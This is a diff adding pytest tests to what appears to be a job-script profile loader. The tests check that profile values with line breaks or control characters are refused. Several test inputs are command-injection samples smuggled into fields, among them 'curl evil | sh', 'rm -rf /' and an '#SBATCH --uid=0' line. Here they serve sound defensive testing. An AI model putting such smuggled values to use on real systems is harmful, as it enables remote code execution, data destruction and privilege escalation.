@@ -120,3 +120,34 @@ def test_overrides_of_the_cluster_are_split_off():
         ["cluster.time=3"],
         ["recipe.epochs=2", "clusters.x=1"],
     )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'partition: "gpu\\ncurl evil | sh"',
+        'setup: ["module load cuda\\nrm -rf /"]',
+        "setup:\n- |\n  module load cuda\n  conda activate x\n",
+        'python: "python\\r"',
+        'container: "a\\u2028b"',
+        'account: "\\e[5m"',
+        'flags: {comment: "a\\n#SBATCH --uid=0"}',
+        'flags: {"comment\\ncurl": x}',
+        'flags: {"a b": x}',
+        'methods: {pdrd: {qos: "a\\nb"}}',
+        'datasets: {msmt17: {exclude: "a\\u0085b"}}',
+    ],
+)
+def test_a_value_that_would_begin_another_line_of_a_script_is_refused(tmp_path, text):
+    with pytest.raises(UsageError, match="control character|not the name of an option"):
+        load_profile(write(tmp_path, text))
+
+
+def test_a_description_may_have_several_lines(tmp_path):
+    assert load_profile(write(tmp_path, "description: |\n  a\n  b\n")).description == "a\nb\n"
+
+
+@pytest.mark.parametrize("override", ["setup=a\nb", "partition=a\nb", "flags.comment=a\nb"])
+def test_a_line_break_on_the_command_line_is_refused(override):
+    with pytest.raises(UsageError, match="control character"):
+        Profile().resources("msmt17", "pdrd", [f"cluster.{override}"])
